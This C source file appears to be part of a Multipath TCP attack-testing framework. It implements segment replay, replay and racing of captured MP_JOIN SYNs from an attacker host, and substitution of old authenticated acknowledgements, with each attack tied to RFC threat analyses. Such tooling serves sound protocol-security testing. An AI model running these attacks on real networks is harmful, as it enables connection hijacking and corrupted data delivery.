/* SPDX-License-Identifier: MIT */
/* attack/a_replay.c - octets that were true once (RFC 6181 6.2, RFC 7430 6; jwd/README.md for captured join SYNs). */
#include "attack/private.h"

/* Without FIN and RST, which would only repeat what the endpoints did themselves. */
static int again(struct mpt_attack *a, struct mpt_attack_aim *m, struct mpt_attack_seg *p, uint64_t now)
{
    if ((p->s.flags & (MPT_TCP_SYN | MPT_TCP_FIN | MPT_TCP_RST)) || !mpt_attack_turn(m, p->v.dir))
        return MPT_ATTACK_PASS;
    mpt_attack_send(a, &p->v, now + m->play.delay, now);
    return MPT_ATTACK_PASS;
}

static int is_join_syn(const struct mpt_attack_seg *p)
{
    return (p->s.flags & (MPT_TCP_SYN | MPT_TCP_ACK)) == MPT_TCP_SYN && MPT_HAS(&p->s.mp, MP_JOIN);
}

/* The same segment, from a host of the attacker. */
static void from_elsewhere(struct mpt_attack *a, struct mpt_attack_aim *m, const struct mpt_attack_seg *p, uint64_t at,
                           uint64_t now)
{
    uint8_t copy[MPT_ATTACK_SEGMENT];
    struct mpt_attack_view v = p->v;

    memcpy(copy, p->v.tcp, p->v.len);
    v.tcp = copy;
    v.src = mpt_end_host(a, &p->v.src, (uint16_t)(40000 + m->n++));
    mpt_edit_checksum(&v);
    mpt_attack_send(a, &v, at, now);
}

static int replay_join(struct mpt_attack *a, struct mpt_attack_aim *m, struct mpt_attack_seg *p, uint64_t now)
{
    if (is_join_syn(p) && mpt_attack_turn(m, p->v.dir))
        from_elsewhere(a, m, p, now + m->play.delay, now);
    return MPT_ATTACK_PASS;
}

/* The copy is there first. */
static int race_join(struct mpt_attack *a, struct mpt_attack_aim *m, struct mpt_attack_seg *p, uint64_t now)
{
    if (!is_join_syn(p) || !mpt_attack_turn(m, p->v.dir))
        return MPT_ATTACK_PASS;
    from_elsewhere(a, m, p, now, now);
    return mpt_attack_hold(a, p, now + m->play.delay, now);
}

enum { AACK_OCTETS = 20, AACK_OP = 0xf1 };

/* One is kept for a while, then stands in for those of another subflow; of the same when there is only one. */
static int replay_aack(struct mpt_attack *a, struct mpt_attack_aim *m, struct mpt_attack_seg *p, uint64_t now)
{
    uint8_t *o = mpt_edit_find(p, MPT_OPT_MPTCP, MP_EXPERIMENTAL);

    (void)a;
    (void)now;
    if (!o || o[1] != AACK_OCTETS || o[2] != AACK_OP || !p->flow)
        return MPT_ATTACK_PASS;
    if (!m->kept_len || m->n++ % 100 == 0) {
        memcpy(m->kept, o, AACK_OCTETS);
        m->kept_len = AACK_OCTETS;
        m->kept_view = p->v;
    } else if (m->kept_view.dir == p->v.dir && mpt_attack_turn(m, p->v.dir)) {
        memcpy(o, m->kept, AACK_OCTETS);
        p->edited = 1;
    }
    return MPT_ATTACK_PASS;
}

const struct mpt_attack_row mpt_attack_replay[] = {
    { .name = "replay-segments", .line = "sends every 10th segment once more, 200 ms later", .needs = "the path",
      .aims = "data accepted twice, old acknowledgements believed", .rfc = "RFC 8684 3.3.1", .every = 10,
      .delay = 200000000, .packet = again },
    { .name = "replay-join", .line = "sends captured join SYNs from a host of its own, 100 ms later",
      .needs = "to have seen the SYN", .aims = "a subflow of the attacker's; with data: data accepted twice",
      .rfc = "RFC 7430 6, RFC 6181 6.2", .delay = 100000000, .early = 1, .packet = replay_join },
    { .name = "race-join", .line = "the same, and the true SYN comes later than the copy", .needs = "the path",
      .aims = "early data that goes to the attacker", .rfc = "RFC 7430 6, RFC 6181 6.1", .delay = 20000000, .early = 1,
      .packet = race_join },
    { .name = "replay-aack", .line = "puts an old authenticated acknowledgement in the place of new ones",
      .needs = "the path, better two", .aims = "a window or acknowledgement that goes back",
      .rfc = "none: this project's", .packet = replay_aack },
    { .name = NULL },
};
